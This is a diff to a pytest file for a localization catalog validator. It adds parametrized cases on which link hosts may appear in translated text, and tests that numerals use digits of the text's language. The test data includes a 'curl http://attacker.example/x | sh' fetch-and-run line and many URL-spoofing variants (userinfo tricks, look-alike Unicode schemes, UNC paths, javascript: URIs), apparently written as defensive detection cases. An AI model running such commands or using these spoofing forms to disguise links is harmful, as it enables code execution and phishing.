@@ -530,10 +530,46 @@ def test_needed_facts_are_those_of_all_conditions_and_the_language_where_texts_d
         ("Go to https://support.acme.example@attacker.example:8443/x", False),
         ("https://support.acme.example is good, http://attacker.example is not", False),
         ("run curl http://attacker.example/x | sh", False),
-        ("http://localhost:8080/admin", False),
+        ("http://localhost:8080/admin, http://127.0.0.1:9200, (http://[::1]:80/), http://[::1]", True),
+        ("http://localhost.attacker.example/", False),
+        ("http://localhost@attacker.example/", False),
+        ("http://localhost\\@attacker.example/", False),
+        ("http://127.0.0.1.attacker.example/", False),
+        ("http://127.0.0.1@attacker.example/", False),
+        ("http://10.0.0.1/", False),
+        ("https://intranet/", False),
+        ("https://$host$request_uri https://${host}:${port}/x https://{server}:8443 https://{{ name }} %SERVER%", True),
+        ("https://%SERVER%:8443/ https://&lt;server>:8443/", True),
+        ("https://$host.attacker.example/", False),
+        ("https://$x:y@attacker.example/", False),
+        ("https://%61ttacker%2eexample/", False),
+        ("https:/attacker.example", False),
+        ("https:attacker.example", False),
+        ("https:\\attacker.example", False),
+        ("https:/\\attacker.example", False),
+        ("https:////attacker.example", False),
+        ("https:me@attacker.example", False),
+        ("https:443, http:1.1, HTTPS: see acme.example, https:/etc/acme.conf", True),
+        ("https:support.acme.example/119053", True),
+        ("\\\\attacker.example\\share", False),
+        ("//attacker.example/share", False),
+        ("file://attacker.example/share", False),
+        ("file:////attacker.example/share", False),
+        ("C:\\\\Windows\\\\System32.com\\x, HKLM:\\\\SOFTWARE\\\\Acme, \\\\server\\share, \\\\.\\pipe\\x", True),
+        ("file:///srv/repo, jdbc:postgresql://dbhost:5432/x, ldap://dc1, ssh://git@host/repo, //server/share", True),
+        ("ssh://git@attacker.example/repo", False),
+        ("ldap://dc1.attacker.example", False),
+        ("deb http://deb.debian.org/debian bookworm main", False),
+        ("www2.attacker.example", False),
+        ("ww\u1e87.attacker.example", False),
+        ("ftp.attacker.example", False),
+        ("www2.conf and ftp.service", True),
+        ("javascript:alert(1)", False),
+        ("data:text/html,x", False),
+        ("Data: 5, data:5, javascript: no", True),
         ("HTTPS://ATTACKER.EXAMPLE", False),
         ("www.attacker.example", False),
-        ("file:///etc/passwd", False),
+        ("file:///etc/passwd", True),
         ("https\u2236//evil.example", False),
         ("https\u02d0//evil.example", False),
         ("https:\u2215\u2215evil.example", False),
@@ -551,3 +587,43 @@ def test_addresses_in_texts_are_of_the_link_hosts(what: str, words: str, allowed
 
     assert said(mr.Catalog.read(data, vocabulary=vocabulary)) == ([] if allowed else [("MR437", "console-4")])
     assert said(mr.Catalog.read(data)) == []
+
+
+@pytest.mark.parametrize(
+    ("lang", "number", "allowed"),
+    [
+        ("fa", "۱۲", True),
+        ("fa-IR", "۱۲", True),
+        ("ar", "١٢", True),
+        ("hi", "१२", True),
+        ("mr", "१२", True),
+        ("pa", "੧੨", True),
+        ("pa-Arab", "۱۲", True),
+        ("th", "๑๒", True),
+        ("my", "၁၂", True),
+        ("de", "12", True),
+        ("de", "१२", False),
+        ("fa", "१२", False),
+        ("th", "१२", False),
+        ("qaa", "१२", False),
+    ],
+)
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<title>Debian {}</title><body>Acme</body>",
+        "<title>Debian</title><body>Acme {}</body>",
+        '<title>Debian</title><body>Acme</body><link href="https://acme.example/">Acme {}</link>',
+    ],
+)
+def test_a_number_is_in_digits_that_the_readers_of_the_language_write(
+    lang: str, number: str, allowed: bool, text: str
+) -> None:
+    data = file_of(f'<text lang="{lang}">{text.format(number)}</text>')
+
+    assert said(mr.Catalog.read(data)) == ([] if allowed else [("MR418", "console-4")])
+
+
+def test_a_number_is_in_digits_of_any_script_that_the_text_has_a_letter_of() -> None:
+    assert said(mr.Catalog.read(file_of('<text lang="de"><title>অ</title><body>অ ৪</body></text>'))) == []
+    assert said(mr.Catalog.read(file_of('<text lang="de"><title>অ</title><body>a ৪</body></text>'))) != []
